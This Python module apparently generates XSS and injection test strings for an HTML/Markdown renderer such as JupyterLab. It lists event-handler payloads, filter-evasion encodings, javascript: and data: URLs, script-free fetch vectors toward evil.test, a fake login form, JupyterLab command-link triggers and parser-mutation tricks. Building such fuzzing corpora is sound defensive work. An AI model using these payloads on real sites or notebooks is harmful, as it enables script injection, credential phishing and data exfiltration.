"""Attack strings made from a grammar: every known way to make a page run, fetch, link or hide something.

The strings use HTML, URLs and Markdown as an attacker would, without regard to how the renderer defends itself. The code
that a string tries to run is always ``RUN``; the URLs that it tries to fetch or link are always below ``evil.test``.
"""

from __future__ import annotations

from base64 import b64encode
from itertools import product

from attack_media import FETCH, IMG, RUN, SCRIPT, formulas, pictures

# -------------------------------------------------------------------------- elements with event handlers

# Elements with an event handler; some fire by themselves, some when they are clicked. H is the attribute.
_ACTING = [
    "<img src=x H>|onerror",
    "<img src=data:, srcset=x H>|onerror",
    "<image src=x H>|onerror",
    "<svg H>|onload",
    "<svg><g H></g></svg>|onload",
    "<svg><image href=x H></image></svg>|onerror",
    "<svg><animate attributeName=x dur=1s H></animate></svg>|onbegin",
    "<svg><set attributeName=x dur=1ms H></set></svg>|onend",
    "<body H>|onload",
    "<body H><br>|onpageshow",
    "<video H><source src=x></video>|onerror",
    "<video src=x H></video>|onloadstart",
    "<video><source src=x H></video>|onerror",
    "<audio src=x H></audio>|onerror",
    "<details open H><summary>s</summary>t</details>|ontoggle",
    "<input autofocus H>|onfocus",
    "<select autofocus H></select>|onfocusin",
    "<textarea autofocus H></textarea>|onfocus",
    "<button autofocus H>b</button>|onfocus",
    "<a href=# autofocus H>a</a>|onfocus",
    "<p tabindex=1 contenteditable autofocus H>p</p>|onfocus",
    "<marquee H>m</marquee>|onstart",
    "<iframe H></iframe>|onload",
    "<object data=x H></object>|onerror",
    "<embed src=x H>|onload",
    "<style H>p{}</style>|onload",
    "<link rel=stylesheet href=x H>|onerror",
    "<script src=x H></script>|onerror",
    "<input type=image src=x H>|onerror",
    "<style>@keyframes k{}</style><b style='animation:k 1ms' H>b</b>|onanimationstart",
    "<b style='transition:color 1ms' H>b</b>|onclick",
    "<div style='content-visibility:auto' H>d</div>|oncontentvisibilityautostatechange",
    "<button popovertarget=v>b</button><div popover id=v H>d</div>|onbeforetoggle",
    "<math><mi H>m</mi></math>|onmouseover",
    "<table H><tr><td>t</td></tr></table>|onclick",
    "<label H>l</label>|onpointerover",
    "<form H><button>b</button></form>|onsubmit",
    "<dialog open H><form method=dialog><button>b</button></form></dialog>|onclose",
    "<q-q H>q</q-q>|onclick",
    "<div H>d</div>|onmouseenter",
    "<code class=language-python H>c</code>|onclick",
    "<a href=https://example.org H>a</a>|onclick",
]


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


# Ways to write a handler so that a filter may miss it.
_SPELLINGS = [
    lambda html, event: html.replace("H", f"{event}={RUN}"),
    lambda html, event: html.replace("H", f'{event.upper()}="{RUN}"').replace("<", "<", 1),
    lambda html, event: html.replace(" H", f"/{event}='{RUN}'"),
    lambda html, event: html.replace(" H", f"\n{event}\n=\n{RUN}"),
    lambda html, event: html.replace("H", f"{event}={_entities(RUN)}"),
    lambda html, event: html.replace("H", f"x='>' {event}=alert&lpar;1&rpar;"),
    lambda html, event: html.replace(" H", f"\t\x0c{event.title()}=`{RUN}`"),
]


def acting() -> list[str]:
    """Return elements with an event handler, in several spellings."""
    made = []
    for entry, spelling in product(_ACTING, _SPELLINGS):
        html, event = entry.split("|")
        made.append(spelling(html, event))
    return made


# ------------------------------------------------------------------------------------------ URLs

_DATA = b64encode(SCRIPT.encode()).decode()
_ADDRESSES = [
    f"javascript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{_DATA}",
    f"data:image/svg+xml,<svg/onload={RUN}>",
    "data:image/png;base64,iVBORw0KGgo=",
    "blob:https://evil.test/0",
    "filesystem:https://evil.test/t/x",
    "file:///etc/passwd",
    "view-source:https://evil.test/",
    "ftp://evil.test/x",
    "ws://evil.test/x",
    "http:/logout",
    "//evil.test/x",
]

_HIDING = [
    lambda url: url,
    str.upper,
    lambda url: "".join(c.upper() if i % 2 else c for i, c in enumerate(url)),
    lambda url: url[:4] + "\t" + url[4:],
    lambda url: url[:4] + "\n" + url[4:],
    lambda url: "\x01" + url,
    lambda url: " \x0b" + url,
    lambda url: url.replace(":", "&colon;", 1),
    lambda url: url[:2] + "&Tab;" + url[2:].replace(":", "&#x3A;", 1),
    lambda url: _entities(url[:4]) + url[4:],
    lambda url: "".join(f"&#x{ord(c):07x}" for c in url[:6]) + url[6:],
    lambda url: "".join(f"%{ord(c):02x}" for c in url[:4]) + url[4:],
    lambda url: url.replace(":", "%3A", 1),
    lambda url: url.replace(":", "\\:", 1),
    lambda url: url[:3] + "\u00ad" + url[3:],
    lambda url: url[:3] + "\u200b" + url[3:],
    lambda url: url[:3] + "\x00" + url[3:],
    lambda url: "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in url[:6]) + url[6:],
    lambda url: url.replace("s", "ſ").replace("k", "\u212a"),
    lambda url: "feed:" + url,
    lambda url: "\u202e" + url,
]

_SHAPES = [
    "[x]({})",
    "[x](<{}>)",
    "[x]( {} 'title')",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x] ![x] [y][x]",
    "[x]:\n  <{}>\n  (title)\n\n[x][]",
    "<a href='{}'>x</a>",
    "[![x]({0})]({0})",
    "[x](https://example.org){{: href='{}'}}",
    "<{}|x>",
    "[[{}]]",
]


def links() -> list[str]:
    """Return links and other elements with dangerous URLs."""
    plain = [hide(url) for url, hide in product(_ADDRESSES, _HIDING)]
    shaped = [
        _SHAPES[(i + j) % len(_SHAPES)].format(url)
        for i, url in enumerate(plain)
        for j in (0, 5)
        if (i + j) % 3 == 0
    ]
    return plain + shaped


# ------------------------------------------------------------------------ requests without a script

_RELS = [
    "stylesheet",
    "prefetch",
    "preload",
    "modulepreload",
    "preconnect",
    "dns-prefetch",
    "prerender",
    "icon",
    "manifest",
    "import",
]
_CSS = [
    f"background:url({FETCH}-bg)",
    f"background:u\\72l('{FETCH}-esc')",
    f"list-style-image:url({FETCH}-list);display:list-item",
    f"background-image:image-set('{FETCH}-set' 1x)",
    f"cursor:url({FETCH}-cur),auto",
    f"border-image-source:url({FETCH}-bi)",
    f"mask-image:url({FETCH}-mask)",
    f"filter:url({FETCH}-f#f)",
    f"content:url({FETCH}-content)",
    "text-align:left;background:url(//evil.test/q-after)",
    f"text-align:left/**/;/**/background:url({FETCH}-comment)",
    "position:fixed;inset:0;z-index:9999;text-align:center",
    f"--x:url({FETCH}-var);background:var(--x)",
    f"shape-outside:url({FETCH}-shape);float:left",
    f"width:expression({RUN});behavior:url(x);-moz-binding:url(x)",
]


def fetching() -> list[str]:
    """Return HTML, CSS and Markdown that would fetch a URL without a script."""
    made = [f"<link rel={rel} as=image href={FETCH}-{rel}>" for rel in _RELS]
    for place in ("<p style='{}'>p</p>", "<style>body,p{{{}}}</style>", "<td style='{}'>t</td>"):
        made += [place.format(rule) for rule in _CSS]
    return [
        *made,
        f"<style>@import '{FETCH}-import';</style>",
        f"<style>@font-face{{font-family:f;src:url({FETCH}-font)}}p{{font-family:f}}</style><p>p</p>",
        f"<img src={FETCH}>",
        f"<img srcset='{FETCH}-set 1x'>",
        f"<img loading=lazy lowsrc={FETCH}-low src=/logout?q>",
        f"<picture><source srcset={FETCH}-pic><img></picture>",
        f"<video poster={FETCH}-poster></video>",
        f"<video src={FETCH}-video preload=auto></video>",
        f"<audio src={FETCH}-audio autoplay></audio>",
        f"<video src=data:video/mp4,><track default src={FETCH}-track></video>",
        f"<input type=image src={FETCH}-input>",
        f"<body background={FETCH}-body>",
        f"<table background={FETCH}-table><tr><td background={FETCH}-td>t</td></tr></table>",
        f"<iframe src={FETCH}-frame></iframe>",
        f"<iframe srcdoc='<img src={FETCH}-doc>'></iframe>",
        f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
        f"<frameset><frame src={FETCH}-fs></frameset>",
        f"<object data={FETCH}-object></object>",
        f"<embed src={FETCH}-embed>",
        f"<object type=image/svg+xml data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\"></object>",
        f"<script src={FETCH}-js></script>",
        f"<script type=module>import '{FETCH}-mod'</script>",
        f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{FETCH}-spec"]}}]}}</script>',
        f"<script>fetch('{FETCH}-fetch')</script>",
        f"<script>new Image().src='{FETCH}-image';location='{FETCH}-go'</script>",
        f"<svg><image href={FETCH}-svg></image></svg>",
        f"<svg><image xlink:href={FETCH}-xl></image></svg>",
        f"<svg><use href={FETCH}-use#x></use></svg>",
        f"<svg><filter id=f><feImage href={FETCH}-fe></feImage></filter><rect filter=url(#f) width=9 height=9></rect></svg>",
        f"<svg><style>@import url({FETCH}-svgcss)</style></svg>",
        f"<svg><script href={FETCH}-svgjs></script></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN}></animate><text y=9>x</text></a></svg>",
        f"<math href=javascript:{RUN}><mtext>x</mtext></math>",
        f"<math><maction actiontype=statusline#{FETCH} xlink:href=javascript:{RUN}>x</maction></math>",
        f"<a href=https://example.org ping={FETCH}-ping>ping</a>",
        f"<a href={FETCH}-attribution attributionsrc>a</a><img attributionsrc={FETCH}-as>",
        f"<meta http-equiv=refresh content='0;url={FETCH}-meta'>",
        f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
        f'<meta http-equiv=Content-Security-Policy content="report-uri {FETCH}-csp">',
        f"<meta name=referrer content=unsafe-url><img src={FETCH}-ref>",
        "<base href=https://evil.test/><img src=q-base><a href=x>a</a>",
        f"<base target=_top><a href={FETCH}-top>a</a>",
        f"<form action={FETCH}-form><input name=password autofocus><button>Log in</button></form>",
        f"<form id=f></form><button form=f formaction=javascript:{RUN}>b</button>",
        f"<form action=javascript:{RUN}><input type=submit></form>",
        f"<form><input type=image formaction={FETCH}-fa src=data:,></form>",
        f"<isindex action=javascript:{RUN} type=image>",
        f"<bgsound src={FETCH}-bg><layer src={FETCH}-layer></layer><portal src={FETCH}-portal></portal>",
        f"<html manifest={FETCH}-manifest>",
        f"<blockquote cite={FETCH}-cite>q</blockquote><del cite=javascript:{RUN}>d</del>",
        f"<?xml-stylesheet href='{FETCH}-xml'?>",
        f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
        f"<area shape=default href=javascript:{RUN}><map name=m><area href=javascript:{RUN}></map><img usemap=#m src=data:,>",
        f"<xml id=x src={FETCH}-xmlsrc></xml><applet code={FETCH}-applet></applet>",
        f"![x]({FETCH}-md)",
        f"![x][r]\n\n[r]: {FETCH}-ref",
        f"![r]\n\n[r]: <{FETCH}-ref> 'r'",
        "![](//evil.test/q-rel) ![](/logout) ![](http:/logout) ![](logout)",
        f"[![x]({FETCH}-in)](https://example.org)",
        f"![![x]({FETCH}-inner)]({FETCH}-outer)",
        f"![x\\]({FETCH}-esc)]({FETCH}-esc2)",
        f"![x](\n{FETCH}-nl\n)",
        f"!\\[x]({FETCH}-bs) !&#91;x]({FETCH}-ent) &excl;[x]({FETCH}-excl)",
        f"![x]({FETCH}-size =10x10) ![x]({FETCH}-attr){{width=1}}",
        f"![[{FETCH}-wiki]] ![^note]\n\n[^note]: {FETCH}",
    ]


# ------------------------------------------------------------------------ features of JupyterLab

_COMMANDS = ["help:about", "terminal:create-new", "console:create", "notebook:run-all-cells", "runmenu:run"]


def jupyter() -> list[str]:
    """Return text that JupyterLab acts on: command links, Mermaid, formulas, attachments."""
    made = []
    for i, (element, command) in enumerate(
        product(("button", "a", "div", "span", "code", "li", "p"), _COMMANDS)
    ):
        quote = ('"', "'", "")[i % 3]
        made.append(
            f"<{element} data-commandlinker-command={quote}{command}{quote} "
            f"data-commandlinker-args='{{\"n\":{i}}}'>click</{element}>"
        )
    return [
        *made,
        "<a href='#' DATA-COMMANDLINKER-COMMAND=help:about>x</a>",
        "[x](command:help:about) [x](command-linker:help:about) [x](#data-commandlinker-command)",
        "<script type=application/vnd.jupyter.widget-view+json>{}</script>",
        "<div class='jp-OutputArea-output jp-mod-trusted' data-mime-type=application/javascript>x</div>",
        "<div class=lm-Widget id=jupyter-config-data name=jupyter-config-data>{}</div>",
        "<img name=cookie><img id=jupyterapp name=jupyterapp><form id=body name=body></form>",
        "<a id=x href=attachment:x.png>x</a> ![x](attachment:x.png) ![x](files/x) ![x](../api/contents?q)",
        f'```mermaid\nflowchart LR\n  A["<img src={FETCH}-mer onerror={RUN}>"] --> B\n```',
        f"```mermaid\n%%{{init: {{'securityLevel':'loose','themeCSS':'@import url({FETCH}-mercss);'}}}}%%\nflowchart LR\n A-->B\n click A call {RUN}\n```",
        f'```mermaid\nflowchart LR\n  A@{{ img: "{FETCH}-merimg", label: "x" }}\n```',
        f'```mermaid\nflowchart LR\n  A --> B\n  click A href "javascript:{RUN}"\n  style A fill:url({FETCH}-merfill)\n```',
        f"```mermaid\nsequenceDiagram\n  participant A\n  link A: x @ javascript:{RUN}\n  A->>B: {IMG}\n```",
        f"~~~~ mermaid\n---\nconfig:\n  securityLevel: loose\n  fontFamily: 'x;}}@import url({FETCH}-fm);'\n---\nflowchart LR\n A-->B\n~~~~",
        f"```{{mermaid}}\ngraph TD\nA[{IMG}]\n```",
        f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\href{{javascript:{RUN}}}{{x}}$$",
        f"\\\\(\\style{{background:url({FETCH}-tex)}}{{x}}\\\\) $\\class{{jp-Cell}}{{x}}\\cssId{{main}}{{y}}$",
        f"$\\text{{{IMG}}}$ $$\\unicode{{x3c}}\\text{{{SCRIPT}}}$$ \\[\\mbox{{{IMG}}}\\]",
        "$\\require{html}\\data{commandlinker-command=help:about}{x}$",
        f"$\\require{{texhtml}}<tex-html>{IMG}</tex-html>$ $\\includegraphics{{{FETCH}-ig}}$",
        f"$\\def\\x{{\\x\\x}}\\x$ $$\\begin{{array}}{{c}}{IMG}\\end{{array}}$$",
        # A URL that no browser can parse becomes a relative one.
        "[x](https://256.1.1.1/logout) [x](https://e.0x) <https://xn--a/logout> [x](https://[::1::]/logout)",
        "https://256.1.1.1/logout https://e.0x/logout www.e.0x www.e%2Fx http://e.org)logout http://e.org'logout",
        # MathJax's preprocessing takes formulas out of the source and puts them back into the HTML.
        f'https://example.org/$"onclick={RUN} x="$',
        f'[x](https://example.org/$)"onclick={RUN} x="$)',
        f'[x](https://example.org (t $" onclick={RUN} x="$))',
        f'[x](https://example.org/@\\@0@@ "y") [x](https://example.org/@&#64;0@@) $" onclick={RUN} x="$',
        f'https://example.org/@@0@@ https://example.org/@@1@@ $" onclick={RUN} x="$',
        f'https://example.org/`$"onclick={RUN}\nx="$`',
        f'https://example.org/\\\\("onclick={RUN} x="\\\\) https://example.org/\\begin{{a}}"onclick={RUN} x="\\end{{a}}',
        f'[x]: https://example.org/$ "onclick={RUN} x="$\n\n[x]',
        f"[x]: https://example.org '$\"onclick={RUN} x=\"$'\n\n[x] ![x]",
        f'a $\n  ```\n  $ https://example.org/$"onclick={RUN} x="$\n  ```',
        f'``` $"onclick={RUN} x="$\ncode\n```',
        f'<https://example.org/$"onclick={RUN}/x="$> <https://example.org/onclick={RUN}>',
        f"\\begin{{equation}}\\href{{javascript:{RUN}}}{{{IMG}}}\\end{{equation}}",
    ]


# ------------------------------------------------------------ HTML that parsers understand differently

_SWALLOWING = [
    "style",
    "title",
    "textarea",
    "xmp",
    "noscript",
    "noembed",
    "noframes",
    "iframe",
    "template",
    "plaintext",
    "script",
    "select",
    "option",
    "table",
    "math",
    "svg",
    "desc",
    "foreignObject",
    "annotation-xml",
    "mtext",
    "mglyph",
    "button",
    "object",
    "listing",
    "p",
    "a",
    "form",
]


def mutating() -> list[str]:
    """Return HTML that a parser and a serializer may understand differently."""
    made = []
    for i, name in enumerate(_SWALLOWING):
        other = _SWALLOWING[(i + 7) % len(_SWALLOWING)]
        made += [
            f"<{name}>{IMG}</{name}>",
            f"<{name}><p title='</{name}>{IMG}'>",
            f"<svg></p><{name}><a id='</{name}>{IMG}'>",
            f"<math><{other}><{name}><!--</{name}>{IMG}-->",
            f"<{other}><{name}></{other}>{IMG}</{name}>",
        ]
    return [
        *made,
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
        f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
        f"<math><annotation-xml encoding='text/html'><p>{IMG}</p></annotation-xml></math>",
        f"<svg><foreignObject><iframe srcdoc='{IMG}'></iframe></foreignObject></svg>",
        f"<svg><title><p><style></title>{IMG}</style></p></title></svg>",
        f"<noscript><style></noscript>{IMG}</style>",
        f"<template shadowrootmode=open>{IMG}</template>",
        f"<div><template shadowrootmode=open><slot>{SCRIPT}</slot></template></div>",
        f"<!--><p>{IMG}--> <!---{IMG}--> <!--{IMG}--!> <!-- - --{IMG}>",
        f"<![CDATA[>{IMG}]]> <!DOCTYPE x [<!ENTITY y '{IMG}'>]>&y;",
        f"<?x {IMG} ?> <!x {IMG}> </ {IMG}> </x {IMG}>",
        f"<<img src=x onerror={RUN}>> <{IMG}> <\x00img src=x onerror={RUN}>",
        f"<im\x00g src=x onerror={RUN}> <im\u200bg src=x onerror={RUN}> <\xadimg src=x onerror={RUN}>",
        f"＜img src=x onerror={RUN}＞ ‹img src=x onerror={RUN}› ‹script›{RUN}‹/script›",
        f"&lt;img src=x onerror={RUN}&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
        f"&amp;lt;img src=x onerror={RUN}&amp;gt; &ampamp;lt; &LT;img src=x onerror={RUN}&GT; &lt{IMG}",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \x1b$B<img src=x onerror={RUN}>",
        f"\u2028{IMG}\u2029{SCRIPT} \ufeff{IMG} \x85{IMG} \x0c{IMG}",
        f'�{IMG}� <a href="java�script:{RUN}">x</a>',
        f"<scr<script>ipt>{RUN}</scr</script>ipt> <script\x0b>{RUN}</script\x0b>",
        f"\U000e003cimg src=x onerror={RUN}\U000e003e \u202e>{RUN}=rorreno x=crs gmi<\u202c",
    ]


# -------------------------------------------------------- Markdown that parsers understand differently

_CODE_TRICKS = [
    "`{}",
    "``{}`",
    "`a``{}`",
    "\\`{}\\`",
    "`a\\`{}`",
    "`a\n\n{}`",
    "`a | b` {} `c`",
    "|a|\n|-|\n|`b | {}`|",
    "|a|\n|-|\n|`b \\| {}`|",
    "[`](x){}`",
    "[a](<`>){}`",
    "<a title='`'>{}`",
    "<https://example.org/`>{}`",
    "`<a title='`'>{}`",
    "![`]({})`",
    "[x]: https://example.org '`'\n{}`",
    "~~~\n{}\n~~",
    "```\n{}\n``",
    "```\n{}\n ~~~",
    "```a`b\n{}\n```",
    "    ```\n{}\n    ```",
    "-\t```\n{}\n\t```",
    "- ```\n{}\n  ```",
    "> ```\n{}\n> ```",
    "> `a\n{} `",
    "1. `a\n2. {}`",
    "# `a\n{}`",
    "`a\n===\n{}`",
    "`a\n***\n{}`",
    "- a\n\n      {}\n\n     {}",
    "\ta\n    {}\n\n\t{}",
    "$`${}$`$",
    "$ ` $ {} $ ` $",
    "a $\n- ```\n  $ {}\n  ```",
    "`x\n$ y`\n- ```\n  $ {}\n  ```",
    "- ```\n  $\n  ```\n  $ `{}`",
    "\\\\( ` \\\\) {} `",
    "\\begin{{a}}`\\end{{a}}{}`",
    "$$\n```\n$$\n{}\n```",
    "@@0@@ `$x$ {}` @@1@@",
    "~T `{}` ~D `{}` ~D",
    "[^1] `{}\n\n[^1]: `",
    "<!-- `\n-->{}`",
    "<pre>`\n\n{}`",
    "<div>\n`\n</div>\n{}`",
    "<!-- ```\n{}\n``` -->",
    "<details>\n\n```\n</details>\n{}\n```",
    "term\n: `a\n{}`",
    "<u>`</u>{}`",
    "<sub>\n\n</sub>`{}",
    "<sub>`\n\n</sub>{}`",
    "<br>\n`{}`",
    "<!-- `{}` -->",
    "<!-- `\n\n-->{}`",
    "<!-->{}-->",
    "<kbd>{}</kbd>",
    "<mark\n>{}</mark>",
    "<details>\n<summary>`</summary>\n{}`\n</details>",
    "<details open><summary>{}</summary>\n\n{}\n</details>",
    "- <details>\n  ```\n</details>\n  {}\n  ```",
    "<details>\n</details>{}",
    "<details>\n~~~\n</details>\n{}",
    "```\r{}\r```\r{}",
    "`a\u2028{}`",
    "`a\x0b{}`\x0c``{}",
    "```\u00a0\n{}\n```",
    "\u00a0```\n{}\n```",
    "{}\n{{: onclick=alert(1)}}",
]
_WRAPPING = [
    "*{}*",
    "**a {}",
    "~~{}~~",
    "[{}](https://example.org)",
    "![{}](https://example.org/i)",
    "[x](https://example.org '{}')",
    '[x](https://example.org "{}")',
    "[{0}]: https://example.org\n\n[{0}]",
    "<https://example.org/{}>",
    "https://example.org/{}",
    "[x](https://example.org/{})",
    '[x](https://example.org/"{}")',
    "> - > 1. {}",
    "- [ ] {}",
    "# {} #",
    "{}\n---",
    "| {} |\n|:-:|\n| {} |",
    "``` {}\nx\n```",
    "&quot;&gt;{}",
    '">{}',
    "'/>{}",
    "-->{}",
    "</code></pre>{}",
    "</textarea></title></style></script>{}",
    "\\{}",
    "\\\\{}",
    "a{}b",
    "{}{}",
    "<br>{}",
    "<sub>{}</sub>",
    "<u>{}",
    "<!-- {} -->",
    "<summary>{}</summary>",
    "<details>\n<summary>a</summary>\n{}\n</details>",
    "<b>\n{}\n</b>",
    "<div>\n\n{}\n\n</div>",
]


def misleading() -> list[str]:
    """Return Markdown in which parsers disagree where code, links or formulas begin and end."""
    inner = [IMG, SCRIPT, f"![q]({FETCH})", f"[q](javascript:{RUN})"]
    made = [trick.format(*(what, what)) for trick in _CODE_TRICKS for what in (inner[0], inner[2])]
    made += [
        wrap.format(*(what, what))
        for i, wrap in enumerate(_WRAPPING)
        for what in (inner[i % 4], inner[(i + 1) % 4])
    ]
    return made


def attacks() -> list[str]:
    """Return all attack strings once each, with the kinds mixed evenly, so that every slice is a fair sample."""
    kinds = [acting(), links(), fetching(), jupyter(), mutating(), misleading(), formulas(), pictures()]
    placed = [
        (i / len(kind), number, text) for number, kind in enumerate(kinds) for i, text in enumerate(kind)
    ]
    return list(dict.fromkeys(text for _, _, text in sorted(placed)))
